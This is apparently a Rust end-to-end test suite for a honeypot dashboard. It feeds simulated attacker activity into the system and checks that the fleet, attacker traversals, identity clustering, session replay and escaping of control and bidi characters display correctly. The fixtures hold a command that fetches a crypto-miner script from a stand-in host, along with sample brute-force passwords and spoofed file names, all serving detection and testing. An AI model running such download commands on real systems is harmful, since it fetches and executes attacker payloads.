//! The Fleet, Attackers and attacker pages in a real headless Chromium,
//! over real processes: `decnet bus`, `decnet api`, `decnet profiler`, one
//! SQLite file. Logs rows are inserted as the collector writes them (an
//! SSH login on one decky, an HTTP request on a second, from 127.0.0.1)
//! and the browser must show one attacker with a 2-decky traversal,
//! delivered live over the attackers SSE stream.
//!
//! Rows are inserted here so that the detail page's timeline and the
//! clusterer's identity (two attackers sharing a HASSH, which needs a
//! fingerprint no client of this test produces) are exact and known. The
//! same criterion with nothing inserted, through `decnet up` and real
//! OpenSSH/curl clients, is `up_senses.rs`.

mod support;

use fantoccini::Locator;
use std::path::Path;
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};
use support::{browser, click_live, free_port, text_of, wait_text, Daemon, Proc, BIN};

fn spawn(dir: &Path, socket: &Path, args: &[&str]) -> Proc {
    Proc(
        Command::new(BIN)
            .args(args)
            .env("DECNET_HOME", dir)
            .env("DECNET_DB", dir.join("decnet.db"))
            .env("DECNET_BUS_SOCKET", socket)
            .env("DECNET_INGEST_LOG_FILE", dir.join("ingest.log"))
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .unwrap(),
    )
}

/// Now, in the store's seconds: rows the test writes are recent, so the
/// API's retention pruner (which runs at start) never takes them.
fn seen_now() -> f64 {
    std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH).unwrap().as_secs_f64()
}

async fn insert_log(pool: &sqlx::SqlitePool, decky: &str, service: &str, event_type: &str, msg: &str) {
    let now = std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH).unwrap().as_secs_f64();
    sqlx::query(
        "INSERT INTO logs (timestamp, decky, service, event_type, attacker_ip, fields, msg, raw_line)
         VALUES (?, ?, ?, ?, '127.0.0.1', '{}', ?, '-')",
    )
    .bind(now)
    .bind(decky)
    .bind(service)
    .bind(event_type)
    .bind(msg)
    .execute(pool)
    .await
    .unwrap();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn dashboard_shows_the_fleet_then_a_live_two_decky_traversal() {
    let dir = tempfile::tempdir().unwrap();
    let bus = Daemon::start(dir.path(), &[]);
    let pool = decnet::store::open(&dir.path().join("decnet.db")).await.unwrap();
    let hash = decnet::auth::hash_password("pw-viewer").unwrap();
    decnet::store::users::create(&pool, "eve", &hash, decnet::auth::Role::Viewer).await.unwrap();
    sqlx::query(
        "INSERT INTO fleet_deckies (name, services, interval_minutes, deployed, address, last_mutated) VALUES
         ('web-01', '[\"ssh\",\"http\"]', 5, 1, '127.0.0.21', 1), ('ws-finance', '[\"http\",\"smb\"]', 5, 1, '127.0.0.22', 1)",
    )
    .execute(&pool)
    .await
    .unwrap();
    sqlx::query(
        "INSERT INTO decky_mutations (timestamp, decky, old_services, new_services, trigger) VALUES
         (1, 'web-01', '[]', '[\"ssh\",\"http\"]', 'creation')",
    )
    .execute(&pool)
    .await
    .unwrap();

    let port = free_port();
    let _api = spawn(dir.path(), &bus.socket, &["api", "--listen", &format!("127.0.0.1:{port}")]);
    let _profiler = spawn(dir.path(), &bus.socket, &["profiler", "--poll-ms", "100"]);
    let _clusterer = spawn(dir.path(), &bus.socket, &["clusterer", "--interval-secs", "0.2"]);
    let url = format!("http://127.0.0.1:{port}/");
    let http = reqwest::Client::new();
    let deadline = Instant::now() + Duration::from_secs(15);
    while http.get(format!("{url}api/v1/health")).send().await.is_err() {
        assert!(Instant::now() < deadline, "the API never answered");
        tokio::time::sleep(Duration::from_millis(50)).await;
    }

    let (_driver, b) = browser(dir.path()).await;
    b.goto(&url).await.unwrap();
    b.find(Locator::Id("username")).await.unwrap().send_keys("eve").await.unwrap();
    b.find(Locator::Id("password")).await.unwrap().send_keys("pw-viewer").await.unwrap();
    b.find(Locator::Id("login-button")).await.unwrap().click().await.unwrap();

    // The fleet, with addresses, services and the mutation.
    b.goto(&format!("{url}#fleet")).await.unwrap();
    let web = wait_text(&b, "#decky-web-01", |t| t.contains("127.0.0.21")).await;
    // Nothing has opened the deckies' listeners: not shown as live.
    assert!(web.contains("ssh:22 pending") && web.contains("http:80 pending"), "{web}");
    assert!(web.contains("creation"), "the mutation history is shown: {web}");
    // Rows render as the fleet answer arrives: wait for this one too.
    wait_text(&b, "#decky-ws-finance", |t| t.contains("127.0.0.22")).await;
    b.goto(&format!("{url}#overview")).await.unwrap();
    wait_text(&b, "#recent-empty", |t| t.contains("No attackers yet")).await;

    // The Attackers page, live: wait until its stream is subscribed.
    b.goto(&format!("{url}#attackers")).await.unwrap();
    wait_text(&b, "#live", |t| t.to_lowercase().contains("● live")).await;

    // Someone connects: an SSH login on web-01, then HTTP on ws-finance.
    let connected = Instant::now();
    insert_log(&pool, "web-01", "ssh", "login_attempt", "root / hunter2").await;
    insert_log(&pool, "ws-finance", "http", "request", "GET /admin").await;
    let row = wait_text(&b, r#"#attackers tr[data-ip="127.0.0.1"] .traversal"#, |t| t == "web-01 → ws-finance").await;
    eprintln!(
        "attacker with a 2-decky traversal shown {} ms after the rows were written",
        connected.elapsed().as_millis()
    );
    assert_eq!(row, "web-01 → ws-finance");
    let rows = b.find_all(Locator::Css("#attackers tbody tr")).await.unwrap();
    assert_eq!(rows.len(), 1, "one attacker");
    // The live events went through the SSE stream (logged on the System page).
    let events = b.find(Locator::Id("events")).await.unwrap().html(true).await.unwrap();
    assert!(events.contains("attacker.scored"), "attacker.scored arrived over SSE: {events}");

    // The detail page.
    click_live(&b, r#"#attackers tr[data-ip="127.0.0.1"] a"#).await;
    let path = wait_text(&b, "#attacker-traversal", |t| t.contains('→')).await;
    assert_eq!(path, "web-01 → ws-finance");
    assert_eq!(text_of(&b, "#attacker-ip").await, "127.0.0.1");
    let timeline = b.find_all(Locator::Css("#attacker-timeline tbody tr")).await.unwrap();
    assert_eq!(timeline.len(), 2);
    assert!(text_of(&b, "#attacker-timeline").await.contains("GET /admin"));

    // Back on the first screen the attacker is there too.
    b.goto(&format!("{url}#overview")).await.unwrap();
    wait_text(&b, r#"#recent-attackers tr[data-ip="127.0.0.1"]"#, |t| t.contains("web-01 → ws-finance")).await;

    // Two attackers share a HASSH: the clusterer links them and the
    // Attackers page lists the identity.
    for ip in ["127.0.0.1", "127.0.0.2"] {
        sqlx::query(
            "INSERT INTO fingerprints (attacker_ip, kind, port, hash, source, first_seen, last_seen)
             VALUES (?, 'hassh', 22, 'ec7378c1a92f5a8dde7e8b7a1ddf33d1', 'sniffer', ?, ?)",
        )
        .bind(ip)
        .bind(seen_now())
        .bind(seen_now())
        .execute(&pool)
        .await
        .unwrap();
    }
    b.goto(&format!("{url}#identities")).await.unwrap();
    let identity = wait_text(&b, "#identities tbody tr", |t| t.contains("127.0.0.2")).await;
    assert!(identity.contains("127.0.0.1") && identity.contains("hassh:ec7378c1"), "{identity}");

    let shot = b.screenshot().await.unwrap();
    std::fs::write(std::path::PathBuf::from(env!("CARGO_TARGET_TMPDIR")).join("attackers-fleet.png"), shot).unwrap();
    b.close().await.unwrap();
}

/// Issue 25: what an attacker typed is shown, not obeyed. A username with
/// a right-to-left override (`admin\u202egnp.exe` would display as
/// `adminexe.png`), ANSI escapes in a command and a C1 control in a
/// message appear on the attacker page as the line format's escapes.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_dashboard_shows_control_and_bidi_characters_escaped() {
    let dir = tempfile::tempdir().unwrap();
    let bus = Daemon::start(dir.path(), &[]);
    let pool = decnet::store::open(&dir.path().join("decnet.db")).await.unwrap();
    let hash = decnet::auth::hash_password("pw-viewer").unwrap();
    decnet::store::users::create(&pool, "eve", &hash, decnet::auth::Role::Viewer).await.unwrap();
    let user = "admin\u{202e}gnp.exe";
    let command = "echo \u{1b}[31mred\u{1b}[0m";
    let now = std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH).unwrap().as_secs_f64();
    for (event_type, fields, msg) in [
        ("login_attempt", serde_json::json!({"username": user}), format!("password login attempt for {user}\u{85}")),
        ("command", serde_json::json!({"command": command, "username": user}), format!("CMD {command}")),
    ] {
        sqlx::query(
            "INSERT INTO logs (timestamp, decky, service, event_type, attacker_ip, fields, msg, raw_line)
             VALUES (?, 'web-01', 'ssh', ?, '127.0.0.3', ?, ?, '-')",
        )
        .bind(now)
        .bind(event_type)
        .bind(fields.to_string())
        .bind(msg)
        .execute(&pool)
        .await
        .unwrap();
    }
    sqlx::query(
        "INSERT INTO credentials (attacker_ip, decky, service, username, secret_sha256, secret_b64, first_seen, last_seen)
         VALUES ('127.0.0.3', 'web-01', 'ssh', ?, 'x', 'aHVudGVyMg==', ?, ?)",
    )
    .bind(user)
    .bind(now)
    .bind(now)
    .execute(&pool)
    .await
    .unwrap();
    // A captured file's URL and path are attacker text too.
    sqlx::query(
        "INSERT INTO artifacts (attacker_ip, decky, sid, source, url, path, sha256, size, mime, first_seen)
         VALUES ('127.0.0.3', 'web-01', 's1', 'url', ?, ?, ?, 1, 'text/plain', ?)",
    )
    .bind("http://198.51.100.2/\u{1b}[2Jx")
    .bind("/tmp/\u{202e}hs.gnp")
    .bind("ab".repeat(32))
    .bind(now)
    .execute(&pool)
    .await
    .unwrap();

    let port = free_port();
    let _api = spawn(dir.path(), &bus.socket, &["api", "--listen", &format!("127.0.0.1:{port}")]);
    let _profiler = spawn(dir.path(), &bus.socket, &["profiler", "--poll-ms", "100"]);
    let url = format!("http://127.0.0.1:{port}/");
    let http = reqwest::Client::new();
    let deadline = Instant::now() + Duration::from_secs(15);
    while http.get(format!("{url}api/v1/health")).send().await.is_err() {
        assert!(Instant::now() < deadline, "the API never answered");
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    let (_driver, b) = browser(dir.path()).await;
    b.goto(&url).await.unwrap();
    b.find(Locator::Id("username")).await.unwrap().send_keys("eve").await.unwrap();
    b.find(Locator::Id("password")).await.unwrap().send_keys("pw-viewer").await.unwrap();
    b.find(Locator::Id("login-button")).await.unwrap().click().await.unwrap();
    wait_text(&b, "#recent-empty, #recent-attackers", |_| true).await;
    // The profiler builds the attacker from the rows; then its page.
    let deadline = Instant::now() + Duration::from_secs(20);
    let creds = loop {
        b.goto(&format!("{url}#attacker/127.0.0.3")).await.unwrap();
        let t = wait_text(&b, "#attacker-ip", |t| t == "127.0.0.3").await;
        assert_eq!(t, "127.0.0.3");
        let creds = text_of(&b, "#attacker-credentials tbody").await;
        let commands = text_of(&b, "#attacker-commands").await;
        if creds.contains("gnp") && commands.contains("echo") || Instant::now() > deadline {
            break creds;
        }
        tokio::time::sleep(Duration::from_millis(300)).await;
    };
    assert!(creds.contains(r"admin\u202egnp.exe"), "credentials: {creds:?}");
    let commands = text_of(&b, "#attacker-commands").await;
    assert!(commands.contains(r"echo \x1b[31mred\x1b[0m"), "commands: {commands:?}");
    let timeline = text_of(&b, "#attacker-timeline").await;
    assert!(timeline.contains(r"attempt for admin\u202egnp.exe\x85"), "timeline: {timeline:?}");
    let artifacts = wait_text(&b, "#attacker-artifacts tbody", |t| t.contains("abab")).await;
    assert!(artifacts.contains(r"/tmp/\u202ehs.gnp") && artifacts.contains(r"/\x1b[2Jx"), "artifacts: {artifacts:?}");
    // Nothing raw anywhere on the page.
    let page = b.find(Locator::Css("body")).await.unwrap().text().await.unwrap();
    assert!(!page.chars().any(|c| decnet::events::rfc5424::must_escape(c) && c != '\n'), "{page:?}");
    b.close().await.unwrap();
}

async fn sign_in(b: &fantoccini::Client, url: &str, user: &str, password: &str) {
    b.goto(url).await.unwrap();
    b.find(Locator::Id("username")).await.unwrap().send_keys(user).await.unwrap();
    b.find(Locator::Id("password")).await.unwrap().send_keys(password).await.unwrap();
    b.find(Locator::Id("login-button")).await.unwrap().click().await.unwrap();
    wait_text(b, "#who", |t| t.contains(user)).await;
}

/// Issue 22: a shell session a decky recorded replays on the attacker
/// page, in the vendored asciinema-player (no network but the API), and
/// captured files are listed with a download for admins only. Everything
/// arrives the deckies' way: lines on the collector's socket, the API's
/// ingester, the recording written by the decky crate's own module.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_recorded_session_replays_on_the_attacker_page_and_only_admins_get_artifact_downloads() {
    use sha2::Digest as _;
    use std::io::Write as _;
    let dir = tempfile::tempdir().unwrap();
    let home = dir.path();
    let bus = Daemon::start(home, &[]);
    let pool = decnet::store::open(&home.join("decnet.db")).await.unwrap();
    for (user, role) in [("ada", decnet::auth::Role::Admin), ("eve", decnet::auth::Role::Viewer)] {
        let hash = decnet::auth::hash_password(&format!("pw-{user}")).unwrap();
        decnet::store::users::create(&pool, user, &hash, role).await.unwrap();
    }
    let sid = "5e55105e55105e55";
    let mut rec = decnet_decky::recording::Recording::new("/bin/bash", decnet_decky::recording::DEFAULT_LIMIT);
    rec.terminal("xterm-256color", 100, 20);
    rec.output(b"root@web-01:~# ");
    rec.input(b"cat /etc/hostname\r");
    rec.output(b"cat /etc/hostname\r\nweb-01-replayed-hostname\r\nroot@web-01:~# ");
    let written = rec.finish(&home.join("recordings"), "web-01", sid).unwrap();
    let payload = b"\x7fELF captured payload".to_vec();
    let sha: String = sha2::Sha256::digest(&payload).iter().map(|b| format!("{b:02x}")).collect();
    std::fs::create_dir_all(home.join("artifacts")).unwrap();
    std::fs::write(home.join("artifacts").join(&sha), &payload).unwrap();

    let _collector = spawn(home, &bus.socket, &["collector", "--no-udp", "--listen", "127.0.0.1:0", "--no-docker"]);
    let port = free_port();
    let _api = spawn(home, &bus.socket, &["api", "--listen", &format!("127.0.0.1:{port}")]);
    let _profiler = spawn(home, &bus.socket, &["profiler", "--poll-ms", "100"]);
    let ip = "127.0.0.12";
    let (bytes, size) = (written.bytes.to_string(), payload.len().to_string());
    let path = written.path.display().to_string();
    let lines = [
        support::decky_line("web-01", ip, "ssh", "command", &[("sid", sid), ("command", "cat /etc/hostname")]),
        support::decky_line(
            "web-01",
            ip,
            "ssh",
            "artifact",
            &[
                ("sid", sid),
                ("source", "url"),
                ("url", "http://198.51.100.2/x86"),
                ("path", "/tmp/x86"),
                ("sha256", &sha),
                ("size", &size),
                ("mime", "application/x-executable"),
            ],
        ),
        support::decky_line(
            "web-01",
            ip,
            "ssh",
            "session_recorded",
            &[
                ("sid", sid),
                ("service", "ssh"),
                ("duration_s", "3.000"),
                ("username", "root"),
                ("recording", &path),
                ("recording_bytes", &bytes),
                ("recording_sha256", &written.sha256),
            ],
        ),
    ];
    let mut unix = None;
    assert!(support::wait_until(20.0, || {
        unix = std::os::unix::net::UnixStream::connect(home.join("collector.sock")).ok();
        unix.is_some()
    }));
    let mut unix = unix.unwrap();
    for line in &lines {
        unix.write_all(line).unwrap();
    }
    let url = format!("http://127.0.0.1:{port}/");
    let http = reqwest::Client::new();
    let deadline = Instant::now() + Duration::from_secs(15);
    while http.get(format!("{url}api/v1/health")).send().await.is_err() {
        assert!(Instant::now() < deadline, "the API never answered");
        tokio::time::sleep(Duration::from_millis(50)).await;
    }

    let (_driver, b) = browser(home).await;
    // A viewer: sees the artifact, gets no download, replays the session.
    sign_in(&b, &url, "eve", "pw-eve").await;
    b.goto(&format!("{url}#attacker/{ip}")).await.unwrap();
    let artifact = wait_text(&b, "#attacker-artifacts tbody", |t| t.contains(&sha)).await;
    assert!(artifact.contains("http://198.51.100.2/x86") && artifact.contains("/tmp/x86"), "{artifact}");
    assert!(b.find_all(Locator::Css("#attacker-artifacts button.download")).await.unwrap().is_empty());
    let session =
        wait_text(&b, &format!(r#"#attacker-sessions tr[data-sid="{sid}"]"#), |t| t.contains("web-01:ssh")).await;
    assert!(session.contains("root") && session.contains("3.0 s"), "{session}");
    assert!(!text_of(&b, "#replay-player").await.contains("web-01-replayed-hostname"));
    click_live(&b, &format!(r#"#attacker-sessions tr[data-sid="{sid}"] button.replay"#)).await;
    // The player loads the recording, then waits for play.
    click_live(&b, "#replay-player .ap-overlay-start").await;
    let shown = wait_text(&b, "#replay-player", |t| t.contains("web-01-replayed-hostname")).await;
    assert!(shown.contains("cat /etc/hostname"), "{shown:?}");
    let shot = b.screenshot().await.unwrap();
    std::fs::write(std::path::PathBuf::from(env!("CARGO_TARGET_TMPDIR")).join("attacker-replay.png"), shot).unwrap();

    // An admin gets the download.
    b.find(Locator::Id("logout")).await.unwrap().click().await.unwrap();
    sign_in(&b, &url, "ada", "pw-ada").await;
    b.goto(&format!("{url}#attacker/{ip}")).await.unwrap();
    wait_text(&b, &format!(r#"#attacker-artifacts tr[data-sha256="{sha}"] button.download"#), |t| t == "Download")
        .await;
    b.close().await.unwrap();
}

/// Issue 27, end to end at a laptop's and a desktop's size: a scripted
/// attack arrives the deckies' way (lines on the collector's socket: an SSH
/// session with three passwords, commands, a download and a recording, then
/// an HTTP request to a second decky); an admin signs in, the Overview is
/// populated, the attacker page's every panel fits the viewport, the
/// timeline folds the session, and the session replays.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_console_tells_the_attack_story_at_1280_and_1920() {
    use base64::Engine as _;
    use sha2::Digest as _;
    use std::io::Write as _;
    let dir = tempfile::tempdir().unwrap();
    let home = dir.path();
    let bus = Daemon::start(home, &[]);
    let pool = decnet::store::open(&home.join("decnet.db")).await.unwrap();
    let hash = decnet::auth::hash_password("pw-ada").unwrap();
    decnet::store::users::create(&pool, "ada", &hash, decnet::auth::Role::Admin).await.unwrap();
    let sid = "c0ffee00c0ffee00";
    let mut rec = decnet_decky::recording::Recording::new("/bin/bash", decnet_decky::recording::DEFAULT_LIMIT);
    rec.terminal("xterm-256color", 100, 20);
    rec.output(b"root@web-01:~# ");
    rec.input(b"uname -a\r");
    rec.output(b"uname -a\r\nLinux web-01 console-replayed-kernel\r\nroot@web-01:~# ");
    let written = rec.finish(&home.join("recordings"), "web-01", sid).unwrap();
    let payload = b"#!/bin/sh\necho miner\n".to_vec();
    let sha: String = sha2::Sha256::digest(&payload).iter().map(|b| format!("{b:02x}")).collect();
    std::fs::create_dir_all(home.join("artifacts")).unwrap();
    std::fs::write(home.join("artifacts").join(&sha), &payload).unwrap();
    // A sniffer-style fingerprint with long values: the panel the issue
    // found cut off even at 2300 px.
    sqlx::query(
        "INSERT INTO fingerprints (attacker_ip, kind, port, hash, details, source, first_seen, last_seen)
         VALUES ('127.0.0.31', 'tls_client_hello', 443, ?, ?, 'sniffer', ?, ?)",
    )
    .bind("771,4865-4866-4867-49195-49199-49196-49200-52393-52392-49171-49172-156-157-47-53,0-23-65281-10-11-35-16-5-13-18-51-45-43-27-17513,29-23-24,0")
    .bind(serde_json::json!({"ja4": "t13d1516h2_8daaf6152771_02713d6af862", "sni": "a-very-long-server-name-the-attacker-asked-for.example.internal"}).to_string())
    .bind(seen_now())
    .bind(seen_now())
    .execute(&pool)
    .await
    .unwrap();

    let _collector = spawn(home, &bus.socket, &["collector", "--no-udp", "--listen", "127.0.0.1:0", "--no-docker"]);
    let port = free_port();
    let _api = spawn(home, &bus.socket, &["api", "--listen", &format!("127.0.0.1:{port}")]);
    let _profiler = spawn(home, &bus.socket, &["profiler", "--poll-ms", "100"]);
    let ip = "127.0.0.31";
    let b64 = |s: &str| base64::engine::general_purpose::STANDARD.encode(s);
    let (bytes, size, path) =
        (written.bytes.to_string(), payload.len().to_string(), written.path.display().to_string());
    let passwords = ["123456", "hunter2", "Winter2024!"];
    let mut lines = vec![support::decky_line("web-01", ip, "ssh", "connect", &[("sid", sid)])];
    for pw in passwords {
        lines.push(support::decky_line(
            "web-01",
            ip,
            "ssh",
            "login_attempt",
            &[("sid", sid), ("username", "root"), ("secret_b64", &b64(pw)), ("auth_method", "password")],
        ));
    }
    for cmd in ["uname -a", "wget http://198.51.100.7/miner.sh", "uname -a"] {
        lines.push(support::decky_line("web-01", ip, "ssh", "command", &[("sid", sid), ("command", cmd)]));
    }
    lines.push(support::decky_line(
        "web-01",
        ip,
        "ssh",
        "artifact",
        &[
            ("sid", sid),
            ("source", "url"),
            ("url", "http://198.51.100.7/miner.sh"),
            ("path", "/tmp/miner.sh"),
            ("sha256", &sha),
            ("size", &size),
            ("mime", "text/x-shellscript"),
        ],
    ));
    lines.push(support::decky_line(
        "web-01",
        ip,
        "ssh",
        "disconnect",
        &[("sid", sid), ("reason", "client closed"), ("duration_s", "4.000")],
    ));
    lines.push(support::decky_line(
        "web-01",
        ip,
        "ssh",
        "session_recorded",
        &[
            ("sid", sid),
            ("service", "ssh"),
            ("duration_s", "4.000"),
            ("username", "root"),
            ("commands", r#"["uname -a","wget http://198.51.100.7/miner.sh","uname -a"]"#),
            ("recording", &path),
            ("recording_bytes", &bytes),
            ("recording_sha256", &written.sha256),
        ],
    ));
    lines.push(support::decky_line("files-02", ip, "http", "request", &[("method", "GET"), ("path", "/backup.zip")]));
    let mut unix = None;
    assert!(support::wait_until(20.0, || {
        unix = std::os::unix::net::UnixStream::connect(home.join("collector.sock")).ok();
        unix.is_some()
    }));
    let mut unix = unix.unwrap();
    for line in &lines {
        unix.write_all(line).unwrap();
    }
    let url = format!("http://127.0.0.1:{port}/");
    let http = reqwest::Client::new();
    let deadline = Instant::now() + Duration::from_secs(15);
    while http.get(format!("{url}api/v1/health")).send().await.is_err() {
        assert!(Instant::now() < deadline, "the API never answered");
        tokio::time::sleep(Duration::from_millis(50)).await;
    }

    let shots = std::path::PathBuf::from(env!("CARGO_TARGET_TMPDIR"));
    let (_driver, b) = browser(home).await;
    for (w, h) in [(1280u32, 800u32), (1920, 1080)] {
        // The viewport (not the window) is w x h: add what the window's
        // own frame takes, measured.
        b.set_window_size(w, h).await.unwrap();
        let frame = b.execute("return [outerWidth - innerWidth, outerHeight - innerHeight]", vec![]).await.unwrap();
        let (fw, fh): (u32, u32) = serde_json::from_value(frame).unwrap();
        b.set_window_size(w + fw, h + fh).await.unwrap();
        sign_in(&b, &url, "ada", "pw-ada").await;
        // The first screen is the Overview, filled from the attack.
        b.goto(&format!("{url}#overview")).await.unwrap();
        let top = wait_text(&b, "#top-passwords", |t| passwords.iter().all(|p| t.contains(p))).await;
        assert!(!top.contains('*'), "an admin sees clear text: {top}");
        let commands = wait_text(&b, "#top-commands", |t| t.contains("uname -a")).await;
        assert!(commands.contains("wget http://198.51.100.7/miner.sh"), "{commands}");
        wait_text(&b, "#newest-artifacts", |t| t.contains("miner.sh")).await;
        wait_text(&b, "#top-deckies", |t| t.contains("web-01") && t.contains("files-02")).await;
        wait_text(&b, "#total-sessions b", |t| t == "1").await;
        let bars = b.find_all(Locator::Css("#chart-events rect.bar")).await.unwrap();
        assert_eq!(bars.len(), 24, "one bar per hour of the last day");
        wait_text(&b, "#top-sources", |t| t.contains(ip)).await;
        std::fs::write(shots.join(format!("console-overview-{w}.png")), b.screenshot().await.unwrap()).unwrap();

        // The attacker page, from the Overview's top sources.
        click_live(&b, &format!(r##"#top-sources a[href="#attacker/{ip}"]"##)).await;
        let creds = wait_text(&b, "#attacker-credentials tbody", |t| passwords.iter().all(|p| t.contains(p))).await;
        assert!(creds.contains("root"), "{creds}");
        wait_text(&b, "#attacker-traversal", |t| t == "web-01 → files-02").await;
        wait_text(&b, "#attacker-fingerprints", |t| t.contains("tls_client_hello")).await;
        let session =
            wait_text(&b, &format!(r#"#attacker-sessions tr[data-sid="{sid}"]"#), |t| t.contains("web-01:ssh")).await;
        assert!(session.contains("4.0 s"), "{session}");
        let kinds = b
            .execute("return [...document.querySelectorAll('#attacker-timeline tbody tr td:nth-child(4)')].map(td => td.textContent)", vec![])
            .await
            .unwrap();
        let kinds: Vec<String> = serde_json::from_value(kinds).unwrap();
        assert!(kinds.contains(&"session".to_string()), "{kinds:?}");
        assert!(!kinds.iter().any(|k| k == "connect" || k == "disconnect"), "connect/disconnect folded: {kinds:?}");
        // Every panel inside the viewport, none scrolling sideways.
        let fit = b
            .execute(
                "const w = document.documentElement.clientWidth;
                 const bad = [...document.querySelectorAll('#page-attacker section')].filter((s) => {
                   const r = s.getBoundingClientRect();
                   return r.width === 0 || r.left < 0 || r.right > w + 0.5 || s.scrollWidth > s.clientWidth + 1;
                 }).map((s) => s.querySelector('h2').textContent);
                 return [window.innerWidth, document.documentElement.scrollWidth, bad];",
                vec![],
            )
            .await
            .unwrap();
        let (inner, scroll, bad): (u32, u32, Vec<String>) = serde_json::from_value(fit).unwrap();
        assert_eq!(inner, w, "the viewport is {w} px wide");
        assert!(scroll <= inner, "the page scrolls sideways at {w} px: {scroll} > {inner}");
        assert!(bad.is_empty(), "panels outside the viewport at {w} px: {bad:?}");

        std::fs::write(shots.join(format!("console-attacker-{w}.png")), b.screenshot().await.unwrap()).unwrap();

        click_live(&b, &format!(r#"#attacker-sessions tr[data-sid="{sid}"] button.replay"#)).await;
        click_live(&b, "#replay-player .ap-overlay-start").await;
        let shown = wait_text(&b, "#replay-player", |t| t.contains("console-replayed-kernel")).await;
        assert!(shown.contains("uname -a"), "{shown:?}");
        std::fs::write(shots.join(format!("console-replay-{w}.png")), b.screenshot().await.unwrap()).unwrap();

        // The Credentials and Sessions pages.
        b.goto(&format!("{url}#credentials")).await.unwrap();
        wait_text(&b, r#"#credentials tr[data-username="root"]"#, |t| t.contains("Winter2024!")).await;
        b.goto(&format!("{url}#sessions")).await.unwrap();
        wait_text(&b, &format!(r#"#sessions tr[data-sid="{sid}"]"#), |t| t.contains(ip)).await;
        b.find(Locator::Id("logout")).await.unwrap().click().await.unwrap();
    }
    b.close().await.unwrap();
}
